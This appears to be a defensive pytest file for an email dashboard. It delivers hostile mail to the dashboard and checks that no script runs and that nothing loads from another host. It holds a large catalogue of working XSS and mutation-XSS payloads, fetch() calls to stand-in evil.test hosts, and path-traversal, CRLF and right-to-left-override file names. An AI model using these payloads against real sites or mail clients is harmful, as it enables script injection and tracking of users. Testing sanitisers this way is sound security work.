"""Hostile mail in a real browser: no script runs, nothing loads from another host.

Every construct below arrives as real mail over SMTP, goes through the analysis worker
and is opened on the dashboard's message page in Chromium, which records every request
(tests/support/browser.py). Each construct names its own host (``<slug>.evil.test``)
and, where it can run script, calls ``alert('<slug>')``: a request to that host or a
dialog with that text means the construct got through.

Three walls are checked separately: the whole page (escaping, sandboxed frame, CSP);
the sanitiser's output alone, rendered with scripts on and no CSP; and, as the control
that shows the constructs are live, the unsanitised HTML in the same browser.

Attachments are only ever downloads: a sanitised file name, ``application/octet-stream``,
``nosniff`` and a ``sandbox`` CSP, whatever the sender claimed.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp.test_utils import TestClient
from canary.dashboard.sanitize import clean_html, content_disposition, download_name
from sqlmodel import select

from canary.config import Settings
from canary.models import Message, User
from canary.store import Store
from tests.support.browser import (
    LiveDashboard,
    Recorder,
    browser_user,  # noqa: F401 - the fixture "user"
    deliver,
    log_in,
    sqlite_only,  # noqa: F401 - the fixture "backend"
)
from tests.support.dashboard import Seeded, login
from tests.support.smtp import add_identity, add_source


@dataclass(frozen=True)
class Construct:
    """One way to run script or make a request from an HTML mail."""

    slug: str
    html: str
    live: bool = True  # fires in today's Chromium when not sanitised (legacy ones do not)


def js(slug: str) -> str:
    """Script that leaves every trace a check looks for."""
    return (
        f"document.documentElement.dataset.ran='{slug}';alert('{slug}');"
        f"fetch('http://{slug}.evil.test/')"
    )


CONSTRUCTS = [
    # Script and event handlers.
    Construct("script", f"<script>{js('script')}</script>"),
    Construct("script-src", '<script src="http://script-src.evil.test/x.js"></script>'),
    Construct("script-module", f'<script type="module">{js("script-module")}</script>'),
    Construct("img-onerror", "<img src=x onerror=\"alert('img-onerror')\">"),
    Construct("img-onerror-slash", "<IMG/SRC=\"x\"/ONERROR=alert('img-onerror-slash')>"),
    Construct("body-onload", "<body onload=\"alert('body-onload')\"><p>body</p></body>"),
    Construct("svg-onload", "<svg onload=\"alert('svg-onload')\"></svg>"),
    Construct("svg-script", "<svg><script>alert('svg-script')</script></svg>"),
    Construct(
        "svg-animate",
        '<svg><a><animate attributeName="href" values="javascript:alert(\'svg-animate\')"/>'
        '<text x="5" y="20">svg-animate</text></a></svg>',
    ),
    Construct(
        "details-ontoggle", "<details open ontoggle=\"alert('details-ontoggle')\">d</details>"
    ),
    Construct("autofocus-onfocus", "<input autofocus onfocus=\"alert('autofocus-onfocus')\">"),
    Construct(
        "video-source-onerror", "<video><source onerror=\"alert('video-source-onerror')\"></video>"
    ),
    Construct(
        "iframe-srcdoc",
        "<iframe srcdoc=\"<script>parent.alert('iframe-srcdoc')</script>\"></iframe>",
    ),
    Construct(
        "noscript-mxss",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript-mxss')>\"></noscript>",
        live=False,  # only bites a sanitiser that parses with scripting off
    ),
    Construct(
        "math-mglyph-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('math-mglyph-mxss')>",
        live=False,  # the mutation needs a serialise-and-reparse step, as in a sanitiser
    ),
    Construct(
        "comment-breakout", "<!--<img src=\"--><img src=x onerror=alert('comment-breakout')>-->"
    ),
    Construct("style-breakout", "<style></style><script>alert('style-breakout')</script>"),
    # URLs that run script or render a document.
    Construct("a-javascript", "<a href=\"javascript:alert('a-javascript')\">click</a>"),
    Construct(
        "a-javascript-entity", "<a href=\"&#106;avascript:alert('a-javascript-entity')\">x</a>"
    ),
    Construct("a-javascript-tab", "<a href=\"jav&#x09;ascript:alert('a-javascript-tab')\">x</a>"),
    Construct("a-javascript-space", "<a href=\" javascript:alert('a-javascript-space')\">x</a>"),
    Construct("a-vbscript", '<a href="vbscript:msgbox(&quot;a-vbscript&quot;)">x</a>', live=False),
    Construct(
        "a-data-html",
        '<a href="data:text/html,<script>alert(1)</script>" id="a-data-html">x</a>',
        live=False,  # Chromium refuses top-level data: navigation; a frame would not
    ),
    Construct(
        "iframe-javascript",
        "<iframe src=\"javascript:parent.alert('iframe-javascript')\"></iframe>",
    ),
    Construct(
        "iframe-data-html",
        "<iframe src=\"data:text/html,<script>fetch('http://iframe-data-html.evil.test/')"
        '</script>"></iframe>',
    ),
    Construct(
        "object-data-html",
        "<object data=\"data:text/html,<script>fetch('http://object-data-html.evil.test/')"
        '</script>"></object>',
    ),
    Construct(
        "embed-data-html",
        '<embed type="text/html" src="data:text/html,<script>fetch(\'http://embed-data-html.evil.test/\')'
        '</script>">',
    ),
    Construct(
        "svg-xlink-javascript",
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:'
        'alert(\'svg-xlink-javascript\')"><text x="5" y="20">x</text></a></svg>',
    ),
    Construct(
        "form-javascript",
        "<form action=\"javascript:alert('form-javascript')\">"
        "<button>form-javascript</button></form>",
    ),
    Construct(
        "button-formaction",
        "<form><button formaction=\"javascript:alert('button-formaction')\">b</button></form>",
    ),
    Construct(
        "meta-refresh-javascript",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta-refresh-javascript\')">',
        live=False,  # Chromium ignores javascript: refreshes
    ),
    # Requests to another host.
    Construct("img-remote", '<img src="http://img-remote.evil.test/pixel.gif" width="1">'),
    Construct("base", '<base href="http://base.evil.test/"><img src="pixel.gif">'),
    Construct(
        "meta-refresh", '<meta http-equiv="refresh" content="0;url=http://meta-refresh.evil.test/">'
    ),
    Construct(
        "css-expression",
        "<div style=\"width: expression(alert('css-expression'))\">e</div>",
        live=False,
    ),
    Construct(
        "css-behavior",
        '<div style="behavior: url(http://css-behavior.evil.test/x.htc)">b</div>',
        live=False,
    ),
    Construct(
        "css-moz-binding",
        '<div style="-moz-binding: url(http://css-moz-binding.evil.test/x.xml#x)">m</div>',
        live=False,
    ),
    Construct("css-import", "<style>@import url(http://css-import.evil.test/i.css);</style>"),
    Construct(
        "css-import-string", '<style>@import "http://css-import-string.evil.test/i.css";</style>'
    ),
    Construct("css-url", "<style>body{background:url(http://css-url.evil.test/b.png)}</style>"),
    Construct(
        "inline-url",
        "<div style=\"background-image:url('http://inline-url.evil.test/a.png')\">i</div>",
    ),
    Construct(
        "inline-url-escaped",
        '<div style="background-image:u\\72l(http://inline-url-escaped.evil.test/a.png)">e</div>',
    ),
    Construct(
        "inline-url-comment",
        '<div style="background-image:url/**/(http://inline-url-comment.evil.test/a.png)">c</div>',
        live=False,  # not valid CSS, but a sanitiser must not count on that
    ),
    Construct(
        "css-image-set",
        '<div style="background-image:image-set('
        "'http://css-image-set.evil.test/a.png' 1x)\">s</div>",
    ),
    Construct(
        "css-font-face",
        "<style>@font-face{font-family:evil;src:url(http://css-font-face.evil.test/f.woff)}"
        '</style><p style="font-family:evil">font</p>',
    ),
    Construct(
        "css-content-url",
        "<style>p::before{content:url(http://css-content-url.evil.test/a.png)}</style><p>c</p>",
    ),
    Construct("srcset", '<img srcset="http://srcset.evil.test/a.png 1x" alt="s">'),
    Construct(
        "picture-source",
        '<picture><source srcset="http://picture-source.evil.test/a.png"><img alt="p"></picture>',
    ),
    Construct(
        "table-background",
        '<table background="http://table-background.evil.test/bg.png"><tr><td>t</td></tr></table>',
    ),
    Construct(
        "td-background",
        '<table><tr><td background="http://td-background.evil.test/bg.png">t</td></tr></table>',
    ),
    Construct(
        "body-background",
        '<body background="http://body-background.evil.test/bg.png"><p>b</p></body>',
    ),
    Construct(
        "link-prefetch", '<link rel="prefetch" href="http://link-prefetch.evil.test/">', live=False
    ),
    Construct(
        "link-stylesheet", '<link rel="stylesheet" href="http://link-stylesheet.evil.test/s.css">'
    ),
    Construct(
        "link-preload", '<link rel="preload" as="image" href="http://link-preload.evil.test/a.png">'
    ),
    Construct(
        "link-icon", '<link rel="icon" href="http://link-icon.evil.test/favicon.ico">', live=False
    ),
    Construct("iframe-remote", '<iframe src="http://iframe-remote.evil.test/"></iframe>'),
    Construct(
        "frame-remote",
        '<frameset><frame src="http://frame-remote.evil.test/"></frameset>',
        live=False,
    ),
    Construct(
        "object-remote",
        '<object type="text/html" data="http://object-remote.evil.test/x.html"></object>',
    ),
    Construct(
        "embed-remote", '<embed type="text/html" src="http://embed-remote.evil.test/x.html">'
    ),
    Construct("video-poster", '<video poster="http://video-poster.evil.test/p.png"></video>'),
    Construct("video-src", '<video src="http://video-src.evil.test/v.mp4" preload="auto"></video>'),
    Construct("audio-src", '<audio src="http://audio-src.evil.test/a.mp3" preload="auto"></audio>'),
    Construct("input-image", '<input type="image" src="http://input-image.evil.test/i.png">'),
    Construct(
        "svg-image",
        '<svg><image href="http://svg-image.evil.test/a.png" width="10" height="10"/></svg>',
    ),
    Construct(
        "svg-xlink-image",
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image '
        'xlink:href="http://svg-xlink-image.evil.test/a.png" width="10" height="10"/></svg>',
    ),
    Construct(
        "svg-feimage",
        '<svg><filter id="f"><feImage href="http://svg-feimage.evil.test/a.png"/></filter>'
        '<rect width="10" height="10" filter="url(#f)"/></svg>',
    ),
    Construct("a-remote", '<a href="http://a-remote.evil.test/">a-remote</a>'),
    Construct(
        "a-ping",
        '<a href="#x" ping="http://a-ping.evil.test/">a-ping</a>',
        live=False,  # pings go out only from a secure context
    ),
    Construct(
        "form-remote",
        '<form action="http://form-remote.evil.test/" method="get">'
        "<button>form-remote</button></form>",
    ),
    Construct(
        "img-data-svg",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='alert(1)'><image href='http://img-data-svg.evil.test/a.png'/></svg>\">",
        live=False,  # an SVG in <img> is never scripted nor allowed to load
    ),
]
# Elements on our own page that only the sender's text could have made.
INJECTED = "document.querySelectorAll('[onerror], script:not([src]), a[href^=javascript]').length"
# Written into the headers of every mail: the message page and the list show them.
HEADER_PAYLOAD = "<img src=x onerror=alert('header')><script>alert('header')</script>"


def mail(construct: Construct, to: str) -> bytes:
    """A multipart mail whose HTML part is the construct and whose headers are hostile."""
    html = (
        f"<html><head></head><body><p>construct {construct.slug}</p>{construct.html}</body></html>"
    )
    return (
        f'From: "{HEADER_PAYLOAD}" <offers@brokerx.test>\r\n'
        f"To: {to}\r\nSubject: [{construct.slug}] {HEADER_PAYLOAD}\r\n"
        f"Message-ID: <{construct.slug}@brokerx.test>\r\n"
        f"List-Unsubscribe: <javascript:alert('list-unsubscribe')>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n'
        f"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{HEADER_PAYLOAD}\r\n"
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n--b1--\r\n"
    ).encode()


def fired(recorder: Recorder, base: str) -> set[str]:
    """The slugs whose construct made a foreign request or opened a dialog."""
    slugs = {c.slug for c in CONSTRUCTS} | {"header", "list-unsubscribe"}
    seen = set()
    for url in recorder.foreign(base):
        host = re.match(r"^[a-z]+://([^/:]+)", url)
        name = host.group(1).removesuffix(".evil.test") if host else url
        seen.add(name if name in slugs else url)
    for text in recorder.dialogs:
        seen.add(text if text in slugs else f"dialog:{text}")
    return seen


async def click_everything(frame: Any) -> None:
    """Click every link, button and image input, as a curious reader would."""
    try:
        elements = await frame.query_selector_all("a, button, input, area, svg text")
    except Exception:  # noqa: BLE001 - the document navigated away on its own
        return
    for element in elements:
        try:
            await element.click(force=True, timeout=500, no_wait_after=True)
        except Exception:  # noqa: BLE001 - hidden, or detached by a previous click
            continue


@pytest.mark.slow
async def test_no_construct_runs_or_loads_anything_on_the_message_page(
    browser_page: tuple[Any, Recorder],
    live_dashboard: LiveDashboard,
    store: Store,
    settings: Settings,
    user: User,
) -> None:
    source = add_source(store, user, "Shop X", ["shopx.test"])
    alias = add_identity(store, user, source, "k3m9qz2v7tw4", "Marc Q Kolier").alias
    await deliver(store, settings, alias, *(mail(c, alias) for c in CONSTRUCTS))
    with store.session() as session:
        ids = {
            re.match(r"\[([^\]]+)\]", m.subject or "").group(1): m.id  # type: ignore[union-attr]
            for m in session.exec(select(Message))
        }
    assert set(ids) == {c.slug for c in CONSTRUCTS}

    page, recorder = browser_page
    base = live_dashboard.url
    await log_in(page, base)
    await page.goto(f"{base}/messages")
    await page.wait_for_load_state("networkidle")
    for construct in CONSTRUCTS:
        await page.goto(f"{base}/messages/{ids[construct.slug]}")
        frame_element = await page.wait_for_selector("iframe.htmlbody", state="attached")
        frame = await frame_element.content_frame()
        assert frame is not None, construct
        await frame.wait_for_load_state("load")
        assert f"construct {construct.slug}" in (await frame.text_content("body") or "")
        await click_everything(frame)
        await page.wait_for_load_state("networkidle")
        # Playwright evaluates in its own isolated world, which works with scripts off.
        assert await frame.evaluate("document.documentElement.dataset.ran") is None, construct
        assert await page.evaluate("document.documentElement.dataset.ran") is None, construct
        # The headers are shown escaped: no element of the sender's on our own page.
        assert await page.evaluate(INJECTED) == 0, construct
    await page.goto(f"{base}/messages")
    assert await page.evaluate(INJECTED) == 0
    assert fired(recorder, base) == set()
    assert recorder.dialogs == []


@pytest.mark.slow
async def test_sanitised_html_is_inert_even_without_the_sandbox_and_csp(
    browser_page: tuple[Any, Recorder], live_dashboard: LiveDashboard
) -> None:
    """The second wall alone: the sanitiser's output in a page where script may run."""
    page, recorder = browser_page
    for construct in CONSTRUCTS:
        await page.set_content(clean_html(construct.html))
        await click_everything(page)
        await page.wait_for_load_state("networkidle")
        assert await page.evaluate("document.documentElement.dataset.ran") is None, construct
    assert fired(recorder, live_dashboard.url) == set()


@pytest.mark.slow
async def test_control_the_constructs_are_live_when_not_sanitised(
    browser_page: tuple[Any, Recorder], live_dashboard: LiveDashboard
) -> None:
    """Without the sanitiser, the same browser runs or loads every construct marked live:
    the checks above would see a construct that got through."""
    page, recorder = browser_page
    missed = []
    for construct in CONSTRUCTS:
        await page.goto("about:blank")
        before_requests, before_dialogs = len(recorder.requests), len(recorder.dialogs)
        await page.set_content(construct.html)
        await click_everything(page)
        await page.wait_for_load_state("networkidle")
        signals = [u for u in recorder.requests[before_requests:] if construct.slug in u]
        signals += [d for d in recorder.dialogs[before_dialogs:] if d == construct.slug]
        if construct.live and not signals:
            missed.append(construct.slug)
    assert not missed, " ".join(missed)


def test_sanitiser_output_has_no_url_handler_or_active_tag() -> None:
    """For browsers other than Chromium: nothing that could fetch or run survives."""
    forbidden = re.compile(
        r"evil\.test|javascript:|vbscript:|expression\s*\(|behavior\s*:|binding\s*:|@import|url\s*\(|"
        r"image-set|srcset|background=|\son\w+\s*=|<(script|style|link|meta|base|iframe|frame|"
        r"object|embed|form|svg|math|video|audio|source|picture|input|button|noscript)\b",
        re.I,
    )
    for construct in [*CONSTRUCTS, Construct("header", HEADER_PAYLOAD)]:
        cleaned = clean_html(construct.html)
        assert forbidden.search(cleaned) is None, (construct.slug, cleaned)


# ---------------------------------------------------------------------- attachments

HTML_ATTACHMENT = f"<html><body><script>{js('attachment-html')}</script></body></html>"
SVG_ATTACHMENT = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('attachment-svg')\">"
    f"<script>{js('attachment-svg')}</script></svg>"
)
# (Content-Disposition and Content-Type parameters as the sender wrote them, the name
# the download must get.)
ATTACHMENTS = [
    ('attachment; filename="../../etc/passwd"', "text/plain", "passwd"),
    ('attachment; filename="/etc/shadow"', "text/plain", "shadow"),
    (
        'attachment; filename="C:\\\\Windows\\\\System32\\\\evil.exe"',
        "application/x-msdownload",
        "evil.exe",
    ),
    ('attachment; filename="..\\\\..\\\\boot.ini"', "text/plain", "boot.ini"),
    (
        "attachment; filename*=UTF-8''..%2F..%2F.ssh%2Fauthorized_keys",
        "text/plain",
        "authorized_keys",
    ),
    ('attachment; filename*0="../../"; filename*1="x.html"', "text/html", "x.html"),
    (
        "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe",
        "application/pdf",
        "invoice fdp.exe",
    ),
    (
        "attachment; filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A.html",
        "text/plain",
        "html .html",  # "text/html" ends a path: only its last component is kept
    ),
    ("attachment; filename*=UTF-8''nul%00byte.txt", "text/plain", "nul\ufffdbyte.txt"),
    ('attachment; filename="=?utf-8?q?=2E=2E=2Fencoded.html?="', "text/html", "encoded.html"),
    ('attachment; filename="CON.txt"', "text/plain", "_CON.txt"),
    ('attachment; filename=".htaccess"', "text/plain", "htaccess"),
    ('attachment; filename="quo\\"te.html"', "text/html", "quo_te.html"),
    ('attachment; filename="..."', "text/plain", None),
    ("attachment", "application/octet-stream", None),
    ('attachment; filename="' + "a" * 200 + '.pdf"', "application/pdf", "a" * 116 + ".pdf"),
    ('inline; filename="page.html"', "text/html", "page.html"),
    ('inline; filename="image.svg"', "image/svg+xml", "image.svg"),
]


def attachment_mail(to: str) -> bytes:
    parts = []
    for index, (disposition, content_type, _) in enumerate(ATTACHMENTS):
        body = SVG_ATTACHMENT if "svg" in content_type else HTML_ATTACHMENT
        if content_type != "text/html" and "svg" not in content_type:
            body = f"attachment {index}"
        parts.append(
            f"--b2\r\nContent-Type: {content_type}\r\nContent-Disposition: {disposition}\r\n\r\n"
            f"{body}\r\n"
        )
    return (
        "From: Broker X <offers@brokerx.test>\r\n"
        f"To: {to}\r\nSubject: Your invoice\r\nMessage-ID: <att-1@brokerx.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b2"\r\n\r\n'
        "--b2\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" + "".join(parts) + "--b2--\r\n"
    ).encode()


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("/etc/shadow", "shadow"),
        ("C:\\Windows\\System32\\evil.exe", "evil.exe"),
        ("C:evil.exe", "C_evil.exe"),
        ("\\\\server\\share\\x.lnk", "x.lnk"),
        ("invoice\u202efdp.exe", "invoice fdp.exe"),
        ("zero\u200bwidth.txt", "zero width.txt"),
        ("a\r\nSet-Cookie: x=1\r\n.txt", "a Set-Cookie_ x=1 .txt"),
        ("tab\there.txt", "tab here.txt"),
        ("nul\x00byte.txt", "nul byte.txt"),
        ("CON", "_CON"),
        ("com1.txt", "_com1.txt"),
        (".htaccess", "htaccess"),
        ("trailing.dots...", "trailing.dots"),
        ('quo"te<>|?*.html', "quo_te_____.html"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("..", None),
        ("a/b/../", None),
        ("\u202e", None),
        ("", None),
        (None, None),
    ],
)
def test_download_names(name: str | None, expected: str | None) -> None:
    got = download_name(name, "fallback")
    assert got == (expected or "fallback")
    assert len(got) <= 120


def test_content_disposition_cannot_be_broken_out_of() -> None:
    header = content_disposition('résumé "final".pdf')
    assert header.startswith('attachment; filename="')
    ascii_part = header.split('filename="', 1)[1].split('"', 1)[0]
    assert ascii_part == "resume _final_.pdf"
    assert unquote(header.split("filename*=UTF-8''", 1)[1]) == 'résumé "final".pdf'
    assert "\r" not in header and "\n" not in header


async def test_attachments_are_only_ever_downloads(
    client: TestClient, store: Store, alice: Seeded
) -> None:
    raw = attachment_mail(alice.identity.alias)
    with store.session() as session:
        message = session.get(Message, alice.message.id)
        assert message is not None
        message.raw = raw
        session.add(message)
    await login(client, "alice")
    page = await (await client.get(f"/messages/{alice.message.id}")).text()
    links = re.findall(r'href="(/messages/\d+/attachments/\d+)"', page)
    assert len(links) == len(ATTACHMENTS)
    assert "\u202e" not in page and "../" not in page
    for index, (_, _, expected) in enumerate(ATTACHMENTS):
        response = await client.get(links[index])
        assert response.status == 200
        headers = response.headers
        assert headers["Content-Type"] == "application/octet-stream"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in headers["Content-Security-Policy"]
        disposition = headers["Content-Disposition"]
        assert disposition.startswith("attachment; filename=")
        exact = unquote(disposition.split("filename*=UTF-8''", 1)[1])
        assert exact == (expected or f"attachment-{alice.message.id}-{index}"), index
        assert not re.search(r"[/\\\x00-\x1f\x7f\u202e]", exact) and not exact.startswith(".")
        body = await response.read()
        assert body and b"--b2" not in body  # the decoded part, not the message
    beyond = await client.get(f"/messages/{alice.message.id}/attachments/{len(ATTACHMENTS)}")
    assert beyond.status == 404
    raw_download = await client.get(f"/messages/{alice.message.id}/raw")
    assert raw_download.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in raw_download.headers["Content-Security-Policy"]


@pytest.mark.slow
async def test_html_and_svg_attachments_download_instead_of_rendering(
    browser_page: tuple[Any, Recorder],
    live_dashboard: LiveDashboard,
    store: Store,
    settings: Settings,
    user: User,
) -> None:
    source = add_source(store, user, "Shop X", ["shopx.test"])
    alias = add_identity(store, user, source, "k3m9qz2v7tw5", "Marc Q Kolier").alias
    await deliver(store, settings, alias, attachment_mail(alias))
    with store.session() as session:
        message_id = session.exec(select(Message.id)).one()
    page, recorder = browser_page
    base = live_dashboard.url
    await log_in(page, base)
    await page.goto(f"{base}/messages/{message_id}")
    active = [i for i, (_, t, _) in enumerate(ATTACHMENTS) if t in ("text/html", "image/svg+xml")]
    for index in active:
        # Clicked on the page, and opened directly as a URL: a download either way.
        async with page.expect_download() as clicked:
            await page.click(f"a.download >> nth={index}")
        assert (await clicked.value).suggested_filename
        async with page.expect_download() as opened:
            with pytest.raises(Exception, match="Download is starting|ERR_ABORTED"):
                await page.goto(f"{base}/messages/{message_id}/attachments/{index}")
        download = await opened.value
        assert not download.suggested_filename.startswith(".")
        assert page.url == f"{base}/messages/{message_id}"  # never navigated to it
        assert await page.evaluate("document.documentElement.dataset.ran") is None
    assert len(active) == 5
    assert recorder.dialogs == [] and recorder.foreign(base) == []
